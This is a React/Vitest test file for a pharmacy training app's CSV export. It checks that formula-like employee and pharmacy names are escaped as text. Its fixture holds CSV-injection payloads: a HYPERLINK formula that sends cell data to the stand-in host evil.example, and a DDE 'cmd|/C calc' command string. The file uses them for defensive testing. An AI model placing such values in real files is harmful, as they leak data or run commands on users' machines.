import type { TrainingEmployees } from '@apopunkt/domain/schemas/business';
import { cleanup, fireEvent, render, screen } from '@testing-library/react';
import type { ReactNode } from 'react';
import { afterEach, describe, expect, it } from 'vitest';
import { captureDownloads } from '../../../test/capture-download';
import { testQueryClient, WithProviders } from '../../../test/with-providers';
import { trainingEmployeesQuery } from '../api/get-training-employees';
import { TrainingEmployeesView } from './training-employees-view';

afterEach(cleanup);
const downloads = captureDownloads();

const HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Details")';

const training: TrainingEmployees = {
  modules: [{ slug: 'reise', name: 'Reiseapotheke' }],
  withoutConsent: [],
  employees: [
    {
      firstName: HYPERLINK,
      lastName: 'Muster',
      job: 'PTA',
      pharmacy: { id: 1, name: '@SUM(1+1)*cmd|/C calc!A0', zip: '10115', city: 'Berlin' },
      passed: [{ moduleSlug: 'reise', passedAt: '2026-11-02T09:00:00.000Z' }],
    },
  ],
};

function withTraining({ children }: { children: ReactNode }) {
  const client = testQueryClient();
  client.setQueryData(trainingEmployeesQuery.queryKey, training);
  return <WithProviders client={client}>{children}</WithProviders>;
}

describe('field-service employees export', () => {
  it('writes a formula-named member and pharmacy as text, with BOM and semicolons', async () => {
    render(<TrainingEmployeesView />, { wrapper: withTraining });
    fireEvent.click(screen.getByRole('button', { name: 'Mitarbeitende und bestandene Module als CSV exportieren' }));
    const [header, row] = (await downloads.lastText()).split('\r\n');
    expect(header).toBe('\uFEFFName;Beruf;Apotheke;Reiseapotheke');
    expect(row?.split(';').slice(0, 3)).toEqual([
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Details"") Muster"`,
      'PTA',
      "'@SUM(1+1)*cmd|/C calc!A0",
    ]);
  });
});
